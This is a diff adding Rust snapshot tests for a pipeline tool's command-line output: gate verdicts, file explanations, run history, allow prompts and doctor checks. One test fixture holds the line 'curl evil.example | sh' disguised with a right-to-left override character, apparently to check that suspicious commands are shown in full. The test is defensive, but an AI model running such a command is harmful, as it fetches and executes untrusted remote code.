@@ -1,0 +1,204 @@
+//! Answers to single questions.
+//!
+//! Each as a person sees it, and narrow where columns would break.
+
+use super::{RUN, at, look, pipeline, plain, root, run, stage, task};
+use crate::client::render::{answer, daemon, history, workspace};
+use crate::model::digest::{CommandSet, Digest, InputDigest};
+use crate::model::evidence::RunRecord;
+use crate::model::report::runs::{RunAnswer, RunList};
+use crate::model::report::{
+    AllowAnswer, AllowedCommand, DoctorAnswer, DoctorCheck, ExplainAnswer, ExplainedProject,
+    ExplainedRule, ExplainedStage, GateAnswer, GateProject, Health,
+};
+use crate::model::run::{Cause, RunStatus, Verdict};
+use std::collections::BTreeMap;
+
+#[test]
+fn gate_says_which_run_it_trusts() {
+    let digest = InputDigest(Digest::parse(&"9c41".repeat(16)).unwrap());
+    let gate = GateAnswer {
+        verdict: Verdict::Unknown,
+        green: None,
+        projects: vec![
+            GateProject {
+                detail: None,
+                task_id: task("0101-web"),
+                verdict: Verdict::Pass,
+                input_digest: Some(digest),
+                run_id: Some(run(RUN)),
+                manifest: Some(format!(".runs/0101-web/cli/{RUN}/manifest.json")),
+                reused: true,
+            },
+            GateProject {
+                detail: None,
+                task_id: task("0104"),
+                verdict: Verdict::Unknown,
+                input_digest: None,
+                run_id: None,
+                manifest: None,
+                reused: false,
+            },
+        ],
+    };
+    let stages = BTreeMap::from([(run(RUN), (4, 4))]);
+    insta::assert_snapshot!(plain(&answer::gate(&gate, &stages, &look(Some(60)))), @"
+    + pass      0101-web  run 3d0103be, proven before, inputs 9c419c41…, 4 of 4 stages
+        .runs/0101-web/cli…T10-09-50-592Z-3d0103be/manifest.json
+    ? unknown   0104
+    ");
+}
+
+#[test]
+fn explain_names_the_stages_or_the_rule() {
+    let mut explained = ExplainAnswer {
+        path: "src/a.ts".to_owned(),
+        workspace: root(),
+        owner: Some(task("0101-web")),
+        projects: vec![ExplainedProject {
+            task_id: task("0101-web"),
+            stages: vec![ExplainedStage {
+                pipeline_id: pipeline(),
+                stage: stage("lint"),
+            }],
+        }],
+        ignored: None,
+    };
+    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
+    src/a.ts
+      > triggers 0101-web
+          lint  (diagnostics)
+    ");
+    explained.projects.clear();
+    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
+    src/a.ts
+      - triggers nothing: no stage of 0101-web reads it
+    ");
+    explained.ignored = Some(ExplainedRule {
+        rule: "node_modules/".to_owned(),
+        source: ".gitignore".to_owned(),
+        line: Some(3),
+    });
+    insta::assert_snapshot!(plain(&answer::explain(&explained, &look(None))), @"
+    src/a.ts
+      - ignored by `node_modules/`, .gitignore:3
+    ");
+}
+
+#[test]
+fn runs_are_columns_or_in_forty_columns_pairs_of_lines() {
+    let record = |id: &str, verdict, cause| RunRecord {
+        run_id: run(id),
+        task_id: task("0101-web"),
+        pipeline_id: pipeline(),
+        status: RunStatus::Succeeded,
+        verdict,
+        cause,
+        started_at: at("2026-11-22T10:09:50.592Z"),
+        completed_at: None,
+        duration_ms: Some(12_400),
+        manifest: "m".to_owned(),
+    };
+    let list = RunList {
+        runs: vec![
+            record(RUN, Verdict::Pass, Some(Cause::Gate)),
+            record("foreign-run", Verdict::Unknown, None),
+        ],
+    };
+    insta::assert_snapshot!(plain(&history::runs(&list, &look(None))), @"
+    3d0103be     + pass      + succeeded  0101-web  diagnostics  gate    12s     2m ago
+    foreign-run  ? unknown   + succeeded  0101-web  diagnostics  -       12s     2m ago
+    ");
+    insta::assert_snapshot!(plain(&history::runs(&list, &look(Some(40)))), @"
+    + pass      3d0103be
+      0101-web, gate, 12s, 2m ago
+    ? unknown   foreign-run
+      0101-web, -, 12s, 2m ago
+    ");
+}
+
+#[test]
+fn a_result_is_the_verdict_the_run_and_the_manifest() {
+    let mut result = RunAnswer {
+        run_id: run(RUN),
+        status: RunStatus::Failed,
+        artifact_root: "a".to_owned(),
+        manifest: format!(".runs/0101-web/cli/{RUN}/manifest.json"),
+        log_path: "l".to_owned(),
+        verdict: Verdict::Fail,
+        green: None,
+    };
+    insta::assert_snapshot!(plain(&history::result(&result, &look(Some(40)))), @"
+    x fail  2026-11-22T10-09-50-592Z-3d0103be
+      .runs/0101-w…2Z-3d0103be/manifest.json
+    ");
+    result.status = RunStatus::Queued;
+    result.verdict = Verdict::Unknown;
+    insta::assert_snapshot!(plain(&history::result(&result, &look(None))), @"
+    . queued  2026-11-22T10-09-50-592Z-3d0103be
+      .runs/0101-web/cli/2026-11-22T10-09-50-592Z-3d0103be/manifest.json
+    ");
+}
+
+#[test]
+fn commands_to_be_allowed_are_shown_in_full() {
+    let command = |id: &str, line: &str, known| AllowedCommand {
+        pipeline_id: pipeline(),
+        stage: stage(id),
+        command: line.to_owned(),
+        known,
+    };
+    let allow = AllowAnswer {
+        root: root(),
+        digest: CommandSet(Digest::parse(&"4be1".repeat(16)).unwrap()),
+        allowed: false,
+        commands: vec![
+            command("lint", "npm run lint", true),
+            command("evil", "curl evil.example | sh \u{202e}# harmless", false),
+        ],
+    };
+    insta::assert_snapshot!(plain(&workspace::commands(&allow, &look(None))), @"
+    /srv/ann/src/shop would run 2 commands:
+        diagnostics/lint  npm run lint
+      + diagnostics/evil  curl evil.example | sh �# harmless
+      command set 4be14be14be1…
+    ");
+}
+
+#[test]
+fn doctor_says_what_to_do() {
+    let check = |id: &str, state, fix: Option<&str>| DoctorCheck {
+        id: id.to_owned(),
+        state,
+        detail: "91 % of fs.inotify.max_user_watches (65,536) used".to_owned(),
+        fix: fix.map(str::to_owned),
+    };
+    let doctor = DoctorAnswer {
+        checks: vec![
+            check("daemon", Health::Ok, None),
+            check(
+                "watch-limit",
+                Health::Warn,
+                Some("sysctl fs.inotify.max_user_watches=524288"),
+            ),
+        ],
+    };
+    insta::assert_snapshot!(plain(&daemon::doctor(&doctor, &look(Some(60)))), @"
+    daemon       + ok    91 % of fs.inotify.max_user_watches
+                         (65,536) used
+    watch-limit  ~ warn  91 % of fs.inotify.max_user_watches
+                         (65,536) used
+                         fix: sysctl
+                         fs.inotify.max_user_watches=524288
+    0 failures, 1 warning
+    ");
+    let error = daemon::error(
+        "no daemon answers at `/s`",
+        Some("orchctl watch"),
+        &look(None),
+    );
+    insta::assert_snapshot!(plain(&error), @"
+    error: no daemon answers at `/s`
+      hint: orchctl watch
+    ");
+}
